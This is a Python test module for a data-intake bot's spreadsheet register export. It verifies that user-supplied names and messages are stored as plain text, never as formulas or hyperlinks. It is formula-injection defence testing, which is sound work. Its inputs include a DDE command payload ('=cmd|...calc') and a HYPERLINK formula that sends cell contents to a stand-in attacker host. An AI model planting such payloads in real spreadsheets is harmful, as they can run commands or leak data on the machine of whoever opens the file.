"""Formulas written wherever one may write: none of them stands in the register as a sheet.

As CSV it has no column for anybody's words at all, and `test_forty_marks.py` finds none there.
"""

import asyncio
import io
import re
import xml.etree.ElementTree as ET
from collections.abc import AsyncIterator
from pathlib import Path
from xml.sax.saxutils import escape
from zipfile import ZipFile

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from pd_intake_bot.app import register
from pd_intake_bot.domain.rights import Language
from pd_intake_bot.sheets import Book
from pd_intake_bot.usecases.overview.register_book import Heading
from tests.servers.staff import INQUIRY, OFFICER, PERSON, StaffService, write_mail
from tests.servers.telegram import POLICY, TEXTS, make_tables

FORMULAS = ("=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "＝1+1")


@pytest.fixture(scope="module")
def tables(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return make_tables(tmp_path_factory.mktemp("tables"))


@pytest.fixture
async def service(tmp_path: Path, tables: Path) -> AsyncIterator[StaffService]:
    async with StaffService(tmp_path, tables=tables) as service:
        yield service


async def plant(service: StaffService, formula: str) -> None:
    """Let a person and the officer who takes the case be called by a formula."""
    mail = write_mail(INQUIRY, f"ФИО: {formula}\nТел: {formula}\n\n{formula}")
    del mail["From"]
    mail["From"] = f'"{formula.strip()}" <user@example.test>'
    await service.mail(mail)
    await service.ask_by_telegram(service.api.person(PERSON, formula, "ru"))
    officer = await service.member(OFFICER, formula)
    await service.press(officer, "🙋 Взять в работу", service.card())


@pytest.mark.parametrize("formula", FORMULAS)
async def test_no_cell_of_the_register_is_a_formula(service: StaffService, formula: str) -> None:
    await plant(service, formula)
    book = register.build(service.database.reading, POLICY, TEXTS)
    with ZipFile(io.BytesIO(await book(Language.RU))) as file:
        written = file.read("xl/worksheets/sheet1.xml").decode()
        styles = file.read("xl/styles.xml").decode()
    assert "PD-2026-00001-F" in written
    # The officer's name is there; no formula, and marked as words for whoever edits the cell.
    assert (escape(formula.strip()) in written, "<f" in written) == (True, False)
    assert 'quotePrefix="1"' in styles


SPACE = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
MOST_IN_A_CELL = 32_767
BEGINNINGS = "=+-@\t\r\n＝＋－＠"
WORDS = st.tuples(
    st.sampled_from(["", *BEGINNINGS, " =", "\ufeff=", "'=", '"=', "_x003D_", "http://"]),
    st.text(st.characters(exclude_categories=["Cs"]), max_size=30),
).map("".join)


async def write(words: str) -> ZipFile:
    book = Book(Heading(title="Реестр", columns=("Кто",), widths=(18,)))
    await book.add([(words,)])
    return ZipFile(io.BytesIO(await book.done()))


@given(words=WORDS)
@example(words="a\ufffeb\uffff")
@example(words="\x00\x01\x0b\x1f")
@example(words='=HYPERLINK("http://evil.test/"&A1)')
@example(words="x" * 40_000)
@settings(max_examples=40)
def test_any_words_in_a_cell_stay_the_words_they_are(words: str) -> None:
    with asyncio.run(write(words)) as file:
        sheet = ET.fromstring(file.read("xl/worksheets/sheet1.xml"))  # noqa: S314 - written here
        styles = ET.fromstring(file.read("xl/styles.xml"))  # noqa: S314 - written here
    assert sheet.find(f".//{SPACE}f") is None
    assert sheet.find(f".//{SPACE}hyperlinks") is None
    cell = sheet.find(f".//{SPACE}c[@r='A2']")
    if cell is None:
        assert words == ""
        return
    assert cell.get("t") == "inlineStr"
    quoted = styles.findall(f"{SPACE}cellXfs/{SPACE}xf")[int(cell.get("s", "0"))].get("quotePrefix")
    assert (quoted == "1") is words.startswith(tuple(BEGINNINGS))
    text = "".join(one.text or "" for one in cell.iter(f"{SPACE}t"))
    # What no XML can hold is written by its number.
    shown = plain(re.sub("_x([0-9A-Fa-f]{4})_", lambda hit: chr(int(hit[1], 16)), text))
    assert shown == plain(words)[:MOST_IN_A_CELL]


def plain(words: str) -> str:
    """Leave out what has no shape: programs write it in ways of their own."""
    return re.sub("[\x00-\x1f\x7f-\x9f\ufffe\uffff]", "", words)
